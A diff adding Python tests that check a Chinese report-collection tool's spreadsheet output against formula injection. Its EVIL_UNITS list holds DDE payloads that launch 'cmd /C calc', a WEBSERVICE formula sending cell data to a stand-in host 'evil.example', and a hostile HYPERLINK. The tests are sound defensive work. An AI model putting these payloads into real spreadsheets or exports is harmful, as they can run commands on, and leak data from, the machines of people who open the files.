@@ -2,6 +2,7 @@
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 
 from hostile import assert_clean, pages_read_as_plain, xxgk
@@ -86,3 +87,97 @@ def test_a_pdf_cut_short_says_so_and_is_read_when_only_its_index_is_lost(tmp_pat
         assert doc["reports"] == [], name
         (f5,) = doc["findings"]
         assert f5["rule"] == "F5" and "文件不完整" in f5["message"] and "已损坏" not in f5["message"], f5
+
+
+# ---- what a reviewer opens, opened by a real spreadsheet application -----------------------------
+
+EVIL_UNITS = ["=cmd|' /C calc'!A0局", '=HYPERLINK("http://evil.example/x","点我")', "@SUM(1+1)*cmd|'/Ccalc'!A0",
+              '=WEBSERVICE("http://evil.example/"&A1)', '=DDE("cmd";"/C calc";"A0")', "+1+2局",
+              "[局]:*?/\\" + "名" * 200]
+
+
+def _evil_collection(tmp_path: Path) -> tuple[Path, Path]:
+    """A folder of the first seed as each of EVIL_UNITS, and its collection workbook (`xxgk import`)."""
+    from hostile import report_text
+    src = tmp_path / "in"
+    src.mkdir()
+    for i, unit in enumerate(EVIL_UNITS):
+        (src / f"r{i}.txt").write_text(report_text(unit), encoding="utf-8")
+    coll = tmp_path / "汇总.xlsx"
+    run = xxgk("import", src, "-o", coll)
+    assert_clean(run)
+    assert run.code == 0, run.text[-2000:]
+    return src, coll
+
+
+def test_libreoffice_opens_every_written_sheet_with_no_formula_link_or_dde(tmp_path):
+    """Unit names that are formulas, a DDE call, a web request, a hyperlink, and a 200-character name
+    with the characters a sheet name cannot hold: the collection workbook (`import`), both annotated
+    workbooks (from the collection, from the documents) and the CSV, each opened by LibreOffice
+    headless and saved as .ods — what the application itself made of every cell. No cell is a
+    formula, no link leaves the workbook, no DDE link; the names are shown as text. (openpyxl's view
+    is tested in test_hostile_injection; this is the application's.)"""
+    import sys
+    import zipfile
+    sys.path.insert(0, str(Path(__file__).parent / "readers"))
+    from docfill import convert, soffice
+    if soffice() is None:
+        import pytest
+        pytest.skip("LibreOffice (soffice) is not installed")
+    src, coll = _evil_collection(tmp_path)
+    written = {"collection": coll, "annotated": tmp_path / "标注.xlsx", "documents": tmp_path / "文档标注.xlsx"}
+    run = xxgk("check", coll, "--annotate", written["annotated"], "--format", "csv")
+    assert_clean(run)
+    assert run.code == 1, run.text[-2000:]
+    (tmp_path / "结果.csv").write_text(run.out, encoding="utf-8-sig")
+    run = xxgk("check", src, "--annotate", written["documents"])
+    assert_clean(run)
+    assert run.code == 1, run.text[-2000:]
+    out = tmp_path / "ods"
+    out.mkdir()
+    shown = ""
+    for what, path in [*written.items(), ("csv", tmp_path / "结果.csv")]:
+        ods = convert(path, out, "ods")
+        content = zipfile.ZipFile(ods).read("content.xml").decode("utf-8")
+        assert "table:formula=" not in content, what
+        assert "dde-source" not in content and "dde-link" not in content, what
+        links = [h for h in re.findall(r'xlink:href="([^"]*)"', content) if not h.startswith(("#", "./Object"))]
+        assert links == [], (what, links[:5])
+        shown += content
+        ods.unlink()
+    for text in ("=cmd|'/Ccalc'!A0", "@SUM(1+1)*cmd|", "=WEBSERVICE(", "=DDE(", "=HYPERLINK("):
+        assert text in shown.replace("&apos;", "'"), text       # as text: units read, prose kept
+
+
+def test_the_lite_script_on_a_hostile_collection_writes_text_and_inner_links_only(tmp_path):
+    """xlwings Lite (`custom_scripts_call` on the Office.js payload, as test_lite runs it) on the
+    collection of those units, edited as an office might: a sheet renamed `=1+2`, a unit cell holding
+    `=HYPERLINK(…)` as text, a 40,000-character cell. Every value and argument the script sends Excel
+    that starts like a formula carries Excel's text marker `'`, every link stays inside the workbook
+    (`#'sheet'!A1`), and nothing longer than a cell holds (32,767) is sent."""
+    import openpyxl
+    import test_lite
+    src, coll = _evil_collection(tmp_path)
+    wb = openpyxl.load_workbook(coll)
+    first = wb[wb.sheetnames[1]]
+    unit_cell = next(r[1] for r in first.iter_rows(max_col=2) if r[0].value == "单位")
+    unit_cell.value = '=HYPERLINK("http://evil.example/","点我")'
+    unit_cell.data_type = "s"
+    first.title = "=1+2"
+    wb[wb.sheetnames[2]]["H1"] = "长" * 40000
+    wb.save(coll)
+    lite = tmp_path / "lite"
+    lite.mkdir()
+    actions = test_lite._lite(coll, lite)["actions"]
+    sent = []
+    for a in actions:
+        for row in a.get("values") or []:
+            sent.extend(row if isinstance(row, list) else [row])
+        sent.extend(a.get("args") or [])
+    texts = [v for v in sent if isinstance(v, str)]
+    assert not [v for v in texts if v.startswith(("=", "+", "-", "@"))], [v for v in texts if v[:1] in "=+-@"][:5]
+    assert max(map(len, texts)) <= 32767
+    links = [a["args"][0] for a in actions if a["func"] == "addHyperlink"]
+    assert links and all(link.startswith("#'") for link in links), [x for x in links if not x.startswith("#'")]
+    assert "'=HYPERLINK(\"http://evil.example/\",\"点我\") 2019" in texts      # shown, as text
+    assert "#'=1+2'!A1" in links
